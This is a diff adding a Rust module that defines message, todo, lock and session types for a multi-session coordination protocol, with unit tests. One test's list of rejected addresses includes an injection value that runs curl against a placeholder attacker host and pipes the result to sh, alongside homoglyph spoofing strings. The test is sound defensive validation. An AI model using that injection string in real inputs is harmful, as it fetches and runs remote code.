@@ -1,0 +1,235 @@
+//! The contract's objects (Message, Todo, Lock, Component, Workflow) and the
+//! write operations, with serialisers that accept what real servers send.
+
+use chrono::{DateTime, Utc};
+use serde::{Deserialize, Serialize};
+
+/// The broadcast address: every session reads messages sent to it.
+pub const ALL_SESSIONS: &str = "ALL_SESSIONS";
+/// The session name used when none is configured.
+pub const DEFAULT_SESSION: &str = "claude-main";
+
+pub type Time = DateTime<Utc>;
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Message {
+    #[serde(deserialize_with = "de_id")]
+    pub id: i64,
+    pub from_session: String,
+    pub to_session: String,
+    #[serde(default)]
+    pub subject: Option<String>,
+    pub body: String,
+    #[serde(default)]
+    pub created_by_user: String,
+    #[serde(default)]
+    pub created_by_machine: String,
+    #[serde(with = "time_serde")]
+    pub created_at: Time,
+    #[serde(default)]
+    pub read: bool,
+    #[serde(default, with = "opt_time")]
+    pub read_at: Option<Time>,
+    /// v1.1: the message this one answers.
+    #[serde(default, deserialize_with = "de_opt_id")]
+    pub in_reply_to: Option<i64>,
+    /// v1.1: who has read it; only in answers about what a session sent.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub read_by: Option<Vec<String>>,
+}
+
+/// v1.1: a session the fleet has seen.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Session {
+    pub session_id: String,
+    #[serde(default)]
+    pub user: String,
+    #[serde(default)]
+    pub machine: String,
+    #[serde(default)]
+    pub name: String,
+    #[serde(default)]
+    pub project: Option<String>,
+    #[serde(default)]
+    pub client: Option<String>,
+    #[serde(with = "time_serde")]
+    pub first_seen: Time,
+    #[serde(with = "time_serde")]
+    pub last_seen: Time,
+}
+
+/// v1.1: what `PUT /sessions/{id}` carries.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct SessionUpdate {
+    pub user: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub project: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub client: Option<String>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Todo {
+    #[serde(deserialize_with = "de_id")]
+    pub id: i64,
+    pub text: String,
+    #[serde(default)]
+    pub user: Option<String>,
+    #[serde(default)]
+    pub project: Option<String>,
+    #[serde(default, deserialize_with = "de_opt_id")]
+    pub parent_id: Option<i64>,
+    #[serde(default)]
+    pub source: Option<String>,
+    #[serde(default)]
+    pub auto: bool,
+    pub status: TodoStatus,
+    #[serde(default)]
+    pub created_by_user: String,
+    #[serde(default)]
+    pub created_by_machine: String,
+    #[serde(with = "time_serde")]
+    pub created_at: Time,
+    #[serde(default)]
+    pub completed_by: Option<String>,
+    #[serde(default, with = "opt_time")]
+    pub completed_at: Option<Time>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, clap::ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum TodoStatus {
+    Pending,
+    Done,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Lock {
+    #[serde(deserialize_with = "de_id")]
+    pub id: i64,
+    pub project: String,
+    pub resource: String,
+    pub session_id: String,
+    #[serde(default)]
+    pub note: Option<String>,
+    #[serde(with = "time_serde")]
+    pub created_at: Time,
+    #[serde(with = "time_serde")]
+    pub expires_at: Time,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Component {
+    pub project: String,
+    pub component: String,
+    pub state: String,
+    #[serde(default)]
+    pub version: Option<String>,
+    #[serde(default)]
+    pub notes: Option<String>,
+    #[serde(default)]
+    pub updated_by: String,
+    #[serde(with = "time_serde")]
+    pub updated_at: Time,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Workflow {
+    pub name: String,
+    pub state: String,
+    #[serde(default)]
+    pub detail: Option<String>,
+    #[serde(default)]
+    pub updated_by: String,
+    #[serde(with = "time_serde")]
+    pub updated_at: Time,
+}
+
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct Status {
+    #[serde(default)]
+    pub locks: Vec<Lock>,
+    #[serde(default)]
+    pub components: Vec<Component>,
+    #[serde(default)]
+    pub workflows: Vec<Workflow>,
+}
+
+mod address;
+mod query;
+mod serde_forms;
+mod write;
+
+pub use address::*;
+pub use query::*;
+pub use serde_forms::*;
+pub use write::*;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use chrono::TimeZone;
+
+    #[test]
+    fn recipients_expand() {
+        assert_eq!(expand_recipient("ALL"), ALL_SESSIONS);
+        assert_eq!(expand_recipient("Fleet"), ALL_SESSIONS);
+        assert_eq!(expand_recipient("broadcast"), ALL_SESSIONS);
+        assert_eq!(expand_recipient("HOWARD-HOME"), "HOWARD-HOME/claude-main");
+        assert_eq!(expand_recipient("HOWARD-HOME/two"), "HOWARD-HOME/two");
+        // Machine names are upper-case; the session name keeps its case.
+        assert_eq!(expand_recipient("beta"), "BETA/claude-main");
+        assert_eq!(expand_recipient("vm/Two"), "VM/Two");
+        assert_eq!(canonical_session("howard-home/x"), "HOWARD-HOME/x");
+        // ASCII only: no Unicode folding onto another machine's name.
+        assert_eq!(canonical_session("ſerver/x"), "ſERVER/x");
+        assert_eq!(canonical_session("büro/x"), "BüRO/x");
+        assert_eq!(canonical_session(ALL_SESSIONS), ALL_SESSIONS);
+    }
+
+    #[test]
+    fn one_address_grammar() {
+        for ok in ["BOX/claude-main", "a.b/c_d-1", ALL_SESSIONS, "X/..x"] {
+            assert!(is_address(ok), "{ok}");
+        }
+        for bad in [
+            "/x",
+            "x/",
+            "BOX/x/y",
+            "BOX/a\u{1}b",
+            "ＡＬＬ/claude-main",
+            "ВОХ/claude-main",
+            "ſerver/claude-main",
+            "stra\u{200b}ße/x",
+            "EVIL/$(curl${IFS}-s${IFS}evil.example|sh)",
+            "BOX/claude-main ",
+            "BOX/..",
+            "all_sessions/x",
+            "BOX",
+        ] {
+            assert!(!is_address(bad), "{bad}");
+        }
+        assert!(!is_address(&format!("BOX/{}", "a".repeat(65))));
+    }
+
+    #[test]
+    fn times_parse_in_every_allowed_form() {
+        let want = Utc.with_ymd_and_hms(2026, 11, 25, 8, 12, 3).unwrap();
+        assert_eq!(parse_time("2026-11-25T08:12:03Z"), Some(want));
+        assert_eq!(parse_time("2026-11-25T09:12:03+01:00"), Some(want));
+        assert_eq!(parse_time("2026-11-25T08:12:03"), Some(want));
+        let frac = parse_time("2026-11-25T08:12:03.123456").unwrap();
+        assert_eq!(frac.timestamp_micros() % 1_000_000, 123_456);
+        assert_eq!(parse_time("yesterday"), None);
+    }
+
+    #[test]
+    fn ids_as_strings_are_read() {
+        let m: Lock = serde_json::from_str(
+            r#"{"id":"7","project":"p","resource":"r","session_id":"A/b",
+                "created_at":"2026-11-25T08:12:03.5","expires_at":"2026-11-25T10:12:03Z","x":1}"#,
+        )
+        .unwrap();
+        assert_eq!(m.id, 7);
+    }
+}
